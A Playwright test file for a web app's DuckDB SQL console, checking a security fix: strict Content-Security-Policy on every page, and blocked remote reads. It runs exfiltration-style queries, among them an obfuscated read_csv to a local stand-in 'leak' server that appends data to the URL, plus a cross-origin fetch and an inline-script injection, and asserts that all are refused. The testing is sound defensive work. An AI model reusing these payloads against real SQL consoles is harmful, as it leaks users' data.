import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { engineReady, expect, test } from './fixtures';

// Served through the app's service worker, as a visitor gets it (the e2e default blocks it).
test.use({ serviceWorkers: 'allow' });

/**
 * Finding 5: there was no Content-Security-Policy, and the SQL console's
 * `read_csv('http://127.0.0.1:8765/x.csv?leak=' || …)` sent the lake's data to another origin.
 */
const ROUTES = ['/', '/sales', '/inventory', '/logistics', '/customers', '/data-quality', '/lake'];

let leak: Server;
let hits: string[];
let leakOrigin: string;

test.beforeEach(async () => {
	hits = [];
	leak = createServer((request, response) => {
		hits.push(request.url ?? '');
		response.setHeader('Access-Control-Allow-Origin', '*');
		response.end('a,b\n1,2\n');
	});
	await new Promise<void>((resolve) => leak.listen(0, '127.0.0.1', resolve));
	leakOrigin = `http://127.0.0.1:${(leak.address() as AddressInfo).port}`;
});
test.afterEach(() => new Promise<void>((resolve) => leak.close(() => resolve())));

test('every page carries a strict CSP: scripts, workers and connections from this origin only', async ({
	request
}) => {
	for (const route of ROUTES) {
		const html = await (await request.get(route)).text();
		const policy = /<meta http-equiv="content-security-policy" content="([^"]+)"/.exec(html)?.[1] ?? '';
		const directives = new Map(
			policy.split(';').map((part) => {
				const [name, ...values] = part.trim().split(/\s+/);
				return [name, values] as const;
			})
		);
		expect(directives.get('default-src'), route).toEqual(["'self'"]);
		expect(directives.get('connect-src'), route).toEqual(["'self'"]);
		expect(directives.get('worker-src'), route).toEqual(["'self'"]);
		const scripts = directives.get('script-src') ?? [];
		expect(scripts.slice(0, 2), route).toEqual(["'self'", "'wasm-unsafe-eval'"]);
		// Only the hashes of SvelteKit's own bootstrap: no 'unsafe-inline', no other origin.
		for (const source of scripts.slice(2)) expect(source, route).toMatch(/^'sha256-[A-Za-z0-9+/=]+'$/);
		// Every script in the page is that bootstrap or a file of this origin.
		for (const [, attributes] of html.matchAll(/<script([^>]*)>/g)) {
			if (attributes.includes('src=')) expect(attributes, route).toMatch(/src="\.?\.?\//);
		}
	}
});

test('the SQL console refuses a remote read_csv with "the lake is local", and nothing leaves', async ({
	page
}) => {
	const consoleErrors: string[] = [];
	page.on('console', (msg) => msg.type() === 'error' && consoleErrors.push(msg.text()));
	page.on('pageerror', (error) => consoleErrors.push(error.message));
	await page.goto('/lake');
	await engineReady(page);

	const output = page.getByTestId('sql-output');
	const run = async (sql: string) => {
		const before = Number(await output.getAttribute('data-run'));
		await page.getByTestId('sql-input').fill(sql);
		await page.getByTestId('sql-run').click();
		await expect(output).toHaveAttribute('data-run', String(before + 1));
		return page.getByTestId('sql-error');
	};

	// A URL in the query, and one the query builds at run time (the engine worker refuses the request).
	const named = await run(`SELECT * FROM read_csv('${leakOrigin}/x.csv?leak=' || version())`);
	await expect(named).toContainText('The lake is local: remote files are blocked');
	const built = await run(
		`SELECT * FROM read_csv('htt' || 'p${leakOrigin.slice(4)}/y.csv?leak=' || version())`
	);
	await expect(built).toContainText('The lake is local: remote files are blocked');
	const parquet = await run(`SELECT * FROM read_parquet('s3://bucket/lake.parquet')`);
	await expect(parquet).toContainText('The lake is local: remote files are blocked');

	// The page itself cannot reach another origin either (connect-src), nor run an inline script.
	const pageFetch = await page.evaluate(
		(url) =>
			fetch(url).then(
				() => 'sent',
				(error: Error) => error.name
			),
		`${leakOrigin}/z.csv?leak=page`
	);
	expect(pageFetch).toBe('TypeError');
	const inline = await page.evaluate(() => {
		const script = document.createElement('script');
		script.textContent = 'window.__inlineRan = true';
		document.head.append(script);
		return (window as unknown as { __inlineRan?: boolean }).__inlineRan ?? false;
	});
	expect(inline).toBe(false);

	expect(hits).toEqual([]);
	// What was logged is only the refusals themselves: DuckDB's note of the blocked request, and the
	// browser's of the blocked fetch and script.
	for (const message of consoleErrors) {
		expect(message).toMatch(/remote files are blocked|Content Security Policy|Failed to fetch/);
	}
});
